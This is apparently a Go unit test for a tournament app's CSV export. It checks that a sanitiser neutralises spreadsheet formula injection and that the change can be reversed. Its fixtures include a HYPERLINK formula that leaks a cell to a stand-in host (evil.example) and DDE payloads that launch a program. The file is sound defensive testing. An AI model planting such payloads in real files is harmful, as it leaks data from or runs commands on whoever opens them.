package csvfile_test

import (
	"strings"
	"testing"

	"adiukh/tournament/csvfile"
)

// hostileText is what people may type as a name, a club or a city that a
// spreadsheet would run as a formula.
var hostileText = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Нажми")`,
	"+7 (900) 123-45-67",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
}

func TestText(t *testing.T) {
	t.Parallel()
	for _, s := range hostileText {
		if got := csvfile.Text(s); !strings.HasPrefix(got, "'"+s[:1]) {
			t.Errorf("Text(%q) = %q, want it prefixed with '", s, got)
		}
	}
	for _, tc := range []struct{ in, want string }{
		// Second security pass, finding E: a plain file opened with the
		// Russian list separator starts a cell after the semicolon.
		{"semi;=1+2", "semi;'=1+2"},
		{"a,b; +7 900", "a,b; '+7 900"},
		{`x;"=HYPERLINK(1)"`, `x;"'=HYPERLINK(1)"`},
		{"tab\t@SUM(1)", "tab\t'@SUM(1)"},
		{"Хуаде Аскер", "Хуаде Аскер"},
		{"", ""},
		{"СШОР № 1", "СШОР № 1"},
		{"'=already text", "'=already text"},
		{"1,5", "1,5"},
		{"Майкоп; Адыгея", "Майкоп; Адыгея"},
	} {
		if got := csvfile.Text(tc.in); got != tc.want {
			t.Errorf("Text(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// ReadText gives back what Text neutralised, so that a table written and
// read back (the openings table) keeps its names.
func TestReadTextUndoesText(t *testing.T) {
	t.Parallel()
	for _, s := range append(hostileText, "semi;=1+2", "a,b; +7 900", "Хуаде Аскер", "", "it's", "'", "x'", "СШОР № 1", " -1") {
		if got := csvfile.ReadText(csvfile.Text(s)); got != s {
			t.Errorf("ReadText(Text(%q)) = %q", s, got)
		}
	}
}
